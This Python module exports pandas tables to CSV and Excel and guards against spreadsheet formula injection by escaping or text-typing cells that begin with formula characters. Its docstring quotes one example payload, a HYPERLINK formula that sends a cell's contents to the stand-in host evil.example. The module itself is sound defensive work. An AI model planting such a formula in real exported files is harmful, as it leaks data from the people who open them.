"""Every file a person downloads (CSV and Excel), written one way: a text cell that a spreadsheet
would run as a formula is kept as the text it is (OWASP's advice on CSV injection).

A comment or a name may be `=HYPERLINK("http://evil.example/?x="&A1,"Click")`: opened in a
spreadsheet it would run. In CSV such a cell gets a leading ' (the spreadsheet then shows it as
text); in Excel it is written as a text cell, never as a formula.
"""
from __future__ import annotations

import io
import math

import openpyxl
import pandas as pd
from openpyxl.cell import WriteOnlyCell

from cxdata.i18n import _

# What starts a formula in Excel, LibreOffice or Google Sheets; tab and return hide one after them.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def is_formula(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_START)


def csv_bytes(table: pd.DataFrame) -> bytes:
    """UTF-8 with a byte-order mark, so a spreadsheet opened by double-click reads accents right;
    a text cell that would start a formula gets a leading '."""
    safe = table.copy()
    for column in safe.columns:
        if safe[column].dtype == object or pd.api.types.is_string_dtype(safe[column]):
            safe[column] = safe[column].map(lambda v: "'" + v if is_formula(v) else v)
    # Lines end in CR LF (RFC 4180), so a cell holding a CR is quoted, not split into a new row.
    return safe.to_csv(index=False, lineterminator="\r\n").encode("utf-8-sig")


def xlsx_bytes(table: pd.DataFrame, sheet: str = "") -> bytes:
    """An Excel workbook of one sheet (named `sheet`, else "Rows" in the language of this run): typed
    numbers and dates, empty cells for no value, a frozen header row, and text always a text cell
    (never a formula). Written row by row in openpyxl's write-only mode, several times faster than a
    DataFrame's to_excel on 100,000 rows."""
    book = openpyxl.Workbook(write_only=True)
    out = book.create_sheet((sheet or _("Rows"))[:31])
    out.freeze_panes = "A2"
    out.append([_cell(out, str(c)) for c in table.columns])
    columns = []
    for name in table.columns:  # Python values, missing as None (an empty cell), no time zones
        values = table[name]
        if isinstance(values.dtype, pd.DatetimeTZDtype):
            values = values.dt.tz_localize(None)
        columns.append([None if _is_blank(v) else v.to_pydatetime() if isinstance(v, pd.Timestamp)
                        else _cell(out, v) if isinstance(v, str)
                        else v.item() if hasattr(v, "item") else v for v in values.astype(object)])
    for row in zip(*columns):
        out.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _cell(sheet, text: str):
    """A text cell: openpyxl would store a text starting with = as a formula."""
    if not is_formula(text):
        return text
    cell = WriteOnlyCell(sheet, text)
    cell.data_type = "s"
    return cell


def _is_blank(v) -> bool:
    return v is None or v is pd.NaT or v is pd.NA or (isinstance(v, float) and not math.isfinite(v))
